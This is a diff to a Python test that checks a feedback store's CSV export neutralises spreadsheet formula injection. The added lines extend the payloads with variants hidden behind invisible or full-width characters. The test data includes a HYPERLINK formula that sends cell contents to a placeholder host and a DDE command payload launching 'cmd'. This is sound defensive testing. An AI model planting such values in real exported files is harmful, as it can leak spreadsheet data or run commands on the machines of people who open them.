@@ -30,6 +30,8 @@ def test_exports_hold_what_was_shown(tmp_path: Path) -> None:
 def test_a_comment_cannot_run_as_a_spreadsheet_formula(tmp_path: Path) -> None:
     store = FeedbackStore(tmp_path / "feedback.sqlite3")
     hostile = ['=HYPERLINK("http://x"&A1,"Cliquez ici")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+    # Behind what a spreadsheet skips (line break, space, no-break or zero-width space, BOM), or full width.
+    hostile += ["\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1"]
     for comment in hostile:
         store.add("down", comment, "réponse", False, [], comment)
     rows = list(csv.DictReader(io.StringIO("".join(store.export("csv")))))
